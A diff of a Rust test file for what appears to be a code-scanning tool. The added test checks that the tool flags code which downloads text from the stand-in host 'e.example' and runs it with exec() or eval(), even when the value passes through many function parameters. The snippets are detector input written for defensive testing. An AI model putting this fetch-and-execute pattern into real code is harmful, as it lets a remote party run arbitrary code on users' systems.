@@ -152,6 +152,34 @@ fn no_target_is_too_many() {
 }
 
 #[test]
+fn a_parameter_behind_many_others_keeps_the_marks_of_its_argument() {
+    for count in [1, 70] {
+        let names: String = (0..count).map(|at| format!("n{at}, ")).collect();
+        let zeros = "0, ".repeat(count);
+        let head = "import requests\nd = requests.get('http://e.example').text\n";
+        let fetched = "const d = await (await fetch('http://e.example')).text();";
+        for (language, rule, text) in [
+            ("python", "py.eval-decoded", format!("{head}def f({names}p):\n    exec(p)\nf({zeros}d)\n")),
+            ("python", "py.eval-decoded", format!("{head}def f({names}p):\n    exec(p)\nf({zeros}p=d)\n")),
+            (
+                "python",
+                "py.eval-decoded",
+                format!("{head}def f({names}*p):\n    exec(p[1])\nf({zeros}0, d)\n"),
+            ),
+            (
+                "javascript",
+                "js.eval-decoded",
+                format!("async function g() {{ {fetched} function f({names}p) {{ eval(p) }} f({zeros}d) }}"),
+            ),
+        ] {
+            let review = look(language, &text);
+            let rules: Vec<_> = review.findings.iter().map(|finding| finding.rule.as_str()).collect();
+            assert!(rules.contains(&rule), "{text}: {rules:?}");
+        }
+    }
+}
+
+#[test]
 fn a_text_that_is_too_long_to_be_joined_keeps_the_marks_of_all_its_parts() {
     for length in [1, 17_000] {
         let head = "import requests\nd = requests.get('http://e.example').text";
